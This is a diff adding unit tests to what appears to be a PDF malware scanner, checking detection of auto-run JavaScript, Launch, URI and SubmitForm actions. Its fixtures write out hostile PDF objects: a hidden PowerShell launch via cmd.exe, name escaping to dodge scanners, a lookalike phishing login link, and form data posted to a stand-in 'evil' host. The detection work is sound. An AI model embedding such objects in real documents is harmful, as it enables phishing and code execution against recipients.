@@ -1059,6 +1059,92 @@ static void encrypted_with_a_password(void **state)
 	g_string_free(g, TRUE);
 }
 
+/* ---- actions (issue 4): what the PDF would do when opened ---- */
+
+static bool finding(const vigil_scan *s, const char *id, const char *attack)
+{
+	long i = tu_finding(s, id);
+
+	if (i < 0) {
+		tu_dump(s);
+		return false;
+	}
+	return attack == NULL ||
+	       strstr(vigil_finding_attack(vigil_scan_finding(s, (size_t)i)), attack) != NULL;
+}
+
+static void openaction_javascript_runs_by_itself(void **state)
+{
+	GString *g = pdf_begin();
+	vigil_scan *s;
+
+	(void)state;
+	/* names written with #xx escapes, as droppers do to dodge keyword scanners */
+	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>");
+	add_page(g);
+	pdf_obj(g, 5, "<< /Type /Action /S /#4Aava#53cript /JS (app.alert\\(1\\);) >>");
+	pdf_end(g, NULL);
+	s = scan(g);
+	assert_true(finding(s, "pdf.autorun", "T1204.002"));
+	assert_true(finding(s, "pdf.javascript", "T1059.007"));
+	vigil_scan_free(s);
+	g_string_free(g, TRUE);
+}
+
+static void launch_uri_and_submitform(void **state)
+{
+	GString *g = pdf_begin();
+	vigil_scan *s;
+	long i;
+	bool url = false;
+
+	(void)state;
+	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>");
+	add_page(g);
+	pdf_obj(g, 5,
+	        "<< /Type /Annot /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) "
+	        "/P (/c powershell -w hidden) >> >> >>");
+	pdf_obj(g, 6,
+	        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI "
+	        "(http://login.bhxh-gov.example/dang-nhap) >> >>");
+	pdf_obj(g, 7,
+	        "<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F "
+	        "(https://collect.evil.example/post) >> >>");
+	pdf_end(g, NULL);
+	s = scan(g);
+	assert_true(finding(s, "pdf.launch", "T1204.002"));
+	i = tu_finding(s, "pdf.launch");
+	assert_non_null(
+	        strstr(vigil_finding_evidence(vigil_scan_finding(s, (size_t)i)), "cmd.exe"));
+	assert_true(finding(s, "pdf.submitform", "T1598.003"));
+	assert_int_equal(tu_finding(s, "pdf.autorun"), -1); /* a click is needed */
+	for (size_t k = 0; k < vigil_scan_fact_count(s, VIGIL_FACT_URL); k++)
+		url |= strcmp(vigil_scan_fact(s, VIGIL_FACT_URL, k),
+		              "http://login.bhxh-gov.example/dang-nhap") == 0;
+	assert_true(url);
+	assert_string_equal(vigil_scan_fact(s, VIGIL_FACT_DOMAIN, 0), "login.bhxh-gov.example");
+	vigil_scan_free(s);
+	g_string_free(g, TRUE);
+}
+
+static void plain_document_has_no_action_findings(void **state)
+{
+	GString *g = pdf_begin();
+	vigil_scan *s;
+
+	(void)state;
+	/* a table of contents link and a page label: ordinary navigation */
+	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>");
+	add_page(g);
+	pdf_obj(g, 5, "<< /Type /Annot /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>");
+	pdf_end(g, NULL);
+	s = scan(g);
+	assert_int_equal(tu_finding(s, "pdf.*"), -1);
+	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
+	vigil_scan_free(s);
+	g_string_free(g, TRUE);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1078,6 +1164,9 @@ int main(void)
 	        cmocka_unit_test(rereading_is_bounded),
 	        cmocka_unit_test(truncated_files),
 	        cmocka_unit_test(hidden_program_and_xfa),
+	        cmocka_unit_test(openaction_javascript_runs_by_itself),
+	        cmocka_unit_test(launch_uri_and_submitform),
+	        cmocka_unit_test(plain_document_has_no_action_findings),
 	        cmocka_unit_test(encrypted_with_empty_password),
 	        cmocka_unit_test(encrypted_with_a_password),
 	};
